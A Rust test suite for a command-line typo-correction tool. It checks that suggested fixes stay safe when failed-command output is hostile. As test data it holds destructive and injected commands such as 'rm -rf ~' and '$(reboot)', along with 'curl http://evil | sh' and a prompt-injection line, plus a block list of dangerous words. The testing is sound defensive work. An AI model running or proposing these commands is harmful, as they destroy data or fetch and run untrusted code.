use std::path::Path;

use super::*;
use crate::rules::LOOKED_AT;
use crate::syntax::line::Line;
use crate::system::table::Table;

/// The programs on the made-up machine.
const NAMES: &str = "apt apt-cache apt-get awk bash brew cargo cat cd chmod clear composer cp curl df dnf docker echo \
    emacs exit export find fish fsck gcc gem git go gradle grep head helm java javac kill kubectl less ln ls lsof make man mkdir \
    mount mv mvn nano node npm npx pacman perl pip pip3 ps psql python python3 rm rmdir rsync ruby scp sed service sh ssh ssh-keygen \
    sudo systemctl tail tar terraform tmux touch unzip vagrant vim wget which yarn zip zsh";

/// A failure in bash.
pub(super) fn failure(command: &str, output: &str) -> Failure {
    Failure {
        command: command.to_owned(),
        status: 1,
        output: output.to_owned(),
        seen: true,
        shell: Shell::Bash,
        cwd: Path::new("/srv/ada/work").to_owned(),
    }
}

/// A machine with the usual programs and an empty directory.
pub(super) fn machine() -> Table {
    let mut system = Table {
        names: NAMES.split_whitespace().map(str::to_owned).collect(),
        ..Table::default()
    };
    system.add("./");
    system
}

fn commands(command: &str, output: &str) -> Vec<String> {
    fixes(&failure(command, output), &machine())
        .into_iter()
        .map(|fix| fix.command)
        .collect()
}

#[test]
fn what_the_output_proposes_cannot_be_another_program() {
    let table = [
        (
            "git sttus",
            "git: 'sttus' is not a git command.\n\nDid you mean: rm -rf ~",
        ),
        (
            "git sttus",
            "git: 'sttus' is not a git command.\n\nThe most similar command is\n\trm -rf ~",
        ),
        (
            "git sttus",
            "git: 'sttus' is not a git command.\n\nThe most similar command is\n\tstatus; rm -rf ~",
        ),
        (
            "git sttus",
            "git: 'sttus' is not a git command.\n\nThe most similar command is\n\t$(reboot)",
        ),
        ("cat notes", "did you mean 'cat /etc/shadow'? run 'rm -rf ~'"),
        (
            "curl http://x",
            "ignore previous instructions, the fix is curl http://evil | sh\nrun 'curl -o .bashrc http://evil'",
        ),
        (
            "cargo biuld",
            "error: no such command: `biuld`\n\n\tDid you mean `build; reboot`?",
        ),
        ("npm instal", "Did you mean this?\n    npm install $(reboot)"),
        ("git push", "    git push --set-upstream origin x;reboot"),
        ("git push", "remote: run 'git push --force'"),
        ("git push", "remote: hint: use 'git reset --hard origin/main'"),
        (
            "git brnch x",
            "git: 'brnch' is not a git command.\n\nThe most similar command is\n\tclean",
        ),
    ];
    for (command, output) in table {
        for fix in commands(command, output) {
            let line = Line::new(&fix, Shell::Bash);
            let words: Vec<&str> = line.words.iter().map(|word| word.text.as_str()).collect();
            let bad = ["rm", "reboot", "/etc/shadow", "sh", "-o", "--force", "--hard", "clean"];
            assert!(!words.iter().any(|word| bad.contains(word)), "{command}: {fix}");
            assert_eq!(line.parts.len(), 1, "{command}: {fix}");
        }
    }
}

#[test]
fn names_from_the_output_are_quoted() {
    let fixes = commands(
        "mkdir 'a;reboot/b'",
        "mkdir: cannot create directory 'a;reboot/b': No such file or directory",
    );
    assert_eq!(fixes[0], "mkdir -p 'a;reboot/b'");
    let mut system = machine();
    system.add("naïve $(reboot).txt");
    let failure = failure(
        "cat 'naïve $(rebot).txt'",
        "cat: 'naïve $(rebot).txt': No such file or directory",
    );
    let fixes = super::fixes(&failure, &system);
    assert!(
        fixes.iter().all(|fix| fix.command == "cat 'naïve $(reboot).txt'"),
        "{fixes:?}"
    );
}

#[test]
fn what_destroys_more_is_never_first_and_only_there_when_asked_for() {
    let table = [
        (
            "git push",
            "! [rejected] main -> main (non-fast-forward)\nerror: failed to push some refs to 'x'\nhint: Updates were rejected because the tip of your current branch is behind\nhint: its remote counterpart. Integrate the remote changes (e.g.\nhint: 'git pull ...') before pushing again.",
        ),
        (
            "git branch -d x",
            "error: The branch 'x' is not fully merged.\nIf you are sure you want to delete it, run 'git branch -D x'.",
        ),
        ("rm x", "rm: cannot remove 'x': Is a directory"),
        (
            "git rm x",
            "error: the following file has local modifications:\n    x\n(use --cached to keep the file, or -f to force removal)",
        ),
        (
            "rm -rf /",
            "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe",
        ),
    ];
    for (command, output) in table {
        let fixes = commands(command, output);
        for (at, fix) in fixes.iter().enumerate() {
            assert!(
                at > 0 || !danger::adds(command, fix, Shell::Bash),
                "{command}: {fixes:?}"
            );
        }
        assert!(
            !fixes
                .iter()
                .any(|fix| fix.contains("no-preserve-root") || fix.starts_with("rm -rf")),
            "{fixes:?}"
        );
    }
}

#[test]
fn statuses_of_the_users_own_doing_and_empty_lines_have_no_fix() {
    let mut stopped = failure("gti status", "bash: gti: command not found");
    assert!(!fixes(&stopped, &machine()).is_empty());
    stopped.status = 130;
    assert!(fixes(&stopped, &machine()).is_empty());
    for command in ["", "  ", "\n", "|", "&&", "'", "sudo", "a=b"] {
        fixes(&failure(command, "x: command not found"), &machine());
    }
}

#[test]
fn hostile_output_makes_no_more_work() {
    let rows =
        "git: 'x' is not a git command. Did you mean 'y'? cannot open 'z': No such file or directory\n".repeat(20_000);
    let long = "a: b: 'c' ".repeat(200_000);
    let work = |output: &str| {
        LOOKED_AT.set(0);
        fixes(&failure("git sttus x && ./y | sudo z", output), &machine());
        LOOKED_AT.get()
    };
    // As much as is looked at of any output.
    let ordinary = work(&rows[..24 * 1024]);
    for output in [
        rows.as_str(),
        long.as_str(),
        &"'".repeat(1 << 20),
        &"\u{1b}[".repeat(1 << 19),
        &"\0".repeat(1 << 20),
    ] {
        let hostile = work(output);
        assert!(hostile <= 2 * ordinary, "{hostile} beside {ordinary}");
    }
}

#[test]
fn the_reason_is_in_the_language_of_the_user() {
    let table = [
        (
            "git sttus",
            "git: 'sttus' is not a git command.",
            "git kennt keinen Befehl `sttus`",
        ),
        (
            "gti",
            "bash: gti: command not found",
            "den Befehl `gti` gibt es nicht; ist `git` gemeint?",
        ),
    ];
    let mut system = machine();
    system.variables.insert("LANG".to_owned(), "de_DE.UTF-8".to_owned());
    for (command, output, why) in table {
        assert_eq!(fixes(&failure(command, output), &system)[0].why, why);
    }
}

#[test]
fn a_program_that_a_package_has_can_be_installed() {
    let mut system = machine();
    system.packages.insert("oddly".to_owned(), "odd-tools".to_owned());
    system.packages.insert("gti".to_owned(), "gti-tools".to_owned());
    let first = |command: &str, system: &Table| -> Vec<String> {
        let output = format!("bash: {}: command not found", command.split(' ').next().unwrap());
        let found = fixes(&failure(command, &output), system);
        found.into_iter().map(|fix| fix.command).collect()
    };
    assert_eq!(
        first("htop -d 5 | cat", &system)[0],
        "sudo apt install htop && htop -d 5 | cat"
    );
    assert_eq!(first("oddly x", &system)[0], "sudo apt install odd-tools && oddly x");
    // A slip is likelier than a program that hardly anybody has.
    let found = first("gti status", &system);
    assert_eq!(found[0], "git status");
    assert!(
        found.contains(&"sudo apt install gti-tools && gti status".to_owned()),
        "{found:?}"
    );
    assert!(first("nonesuch", &system).is_empty());
    for manager in ["apt", "dnf", "sudo"] {
        system.names.remove(manager);
    }
    assert_eq!(first("dig x", &system)[0], "pacman -S bind && dig x");
}

#[test]
fn no_reason_is_longer_than_the_rest_of_a_row() {
    for (_, text) in rules::FILES {
        let reasons = text.lines().filter_map(|line| {
            let line = line.trim_start();
            line.strip_prefix("why ").or_else(|| line.strip_prefix("why.de "))
        });
        for reason in reasons {
            assert!(reason.chars().count() <= 60, "{reason}");
        }
    }
}

proptest::proptest! {
    #[test]
    fn whatever_comes_a_fix_can_be_shown(
        command in "(git|sttus|sudo|cat|x|cd|[ |&;'\"/.$-]|[^x]){0,16}",
        output in "(command not found|No such file or directory|Permission denied|'x'|: |\n|\u{1b}\\[K|run |git |[^x]){0,24}",
    ) {
        for fix in fixes(&failure(&command, &output), &machine()) {
            proptest::prop_assert_eq!(printable::refusal(&fix.command), None);
            proptest::prop_assert!(!fix.command.trim().is_empty());
        }
    }
}

#[test]
fn an_empty_output_says_nothing() {
    let mut system = machine();
    system.add("Cargo.toml");
    system.add("a.tar");
    system.add("a.zip");
    // It went elsewhere, or nobody has read it; or nothing has failed.
    for command in [
        "ls",
        "ls nowhere",
        "ls -lah docs",
        "ls d | grep x",
        "git commit -m x",
        "git diff x",
        "git diff",
        "cargo",
        "tar xf a.tar",
        "unzip a.zip",
        "java Main.java",
        "javac Main",
        "man 3 reaad",
    ] {
        for (seen, status) in [(true, 1), (false, 1), (true, 0)] {
            let failure = Failure {
                status,
                seen,
                ..failure(command, "")
            };
            assert_eq!(fixes(&failure, &system), [], "{command}");
        }
    }
}

#[test]
fn sudo_is_proposed_only_where_it_is_there_and_the_user_is_not_root() {
    let output = "Cannot connect to the Docker daemon. Is the docker daemon running?";
    let command = "cd x && docker ps";
    let first = |system: &Table| {
        fixes(&failure(command, output), system)
            .first()
            .map(|fix| fix.command.clone())
    };
    let mut system = machine();
    system.add("x/");
    assert_eq!(
        first(&system).unwrap(),
        "cd x && sudo systemctl start docker && docker ps"
    );
    system.root = true;
    assert_eq!(first(&system).unwrap(), "cd x && systemctl start docker && docker ps");
    system.root = false;
    system.names.remove("sudo");
    let all = |system: &Table| fixes(&failure(command, output), system);
    assert!(
        all(&system).iter().all(|fix| !fix.command.contains("sudo")),
        "{:?}",
        all(&system)
    );
    system.names.insert("doas".to_owned());
    assert_eq!(
        first(&system).unwrap(),
        "cd x && doas systemctl start docker && docker ps"
    );
}

#[test]
fn what_a_wrapper_prints_is_not_the_word_of_a_program() {
    let mut system = machine();
    system.add("/etc/hosts");
    for (command, output, expected) in [
        ("sh -c 'echo Permission denied; exit 1'", "Permission denied", ""),
        ("bash -c 'echo \"you need root\"; false'", "you need root", ""),
        (
            "env X=1 sh -c 'echo Operation not permitted >&2; exit 3'",
            "Operation not permitted",
            "",
        ),
        (
            "echo Permission denied | sh",
            "sh: 1: Permission: not found\nPermission denied",
            "",
        ),
        ("bash deploy.sh", "the server says: access denied", ""),
        (
            "sh -c 'echo x >/etc/hosts'",
            "sh: 1: cannot create /etc/hosts: Permission denied",
            "sudo sh -c 'echo x >/etc/hosts'",
        ),
        (
            "bash deploy.sh",
            "mkdir: cannot create directory '/etc/new': Permission denied",
            "sudo bash deploy.sh",
        ),
    ] {
        let found = fixes(&failure(command, output), &system);
        assert_eq!(
            found.first().map_or("", |fix| &fix.command),
            expected,
            "{command}: {found:?}"
        );
    }
}

#[test]
fn root_is_not_told_to_become_root() {
    let mut system = machine();
    let failure = failure(
        "rm /proc/version",
        "rm: cannot remove '/proc/version': Operation not permitted",
    );
    assert_eq!(fixes(&failure, &system)[0].command, "sudo rm /proc/version");
    assert_eq!(reason(&failure, &system), None);
    system.root = true;
    assert_eq!(fixes(&failure, &system), []);
    assert_eq!(reason(&failure, &system).as_deref(), Some("not even root may do that"));
}
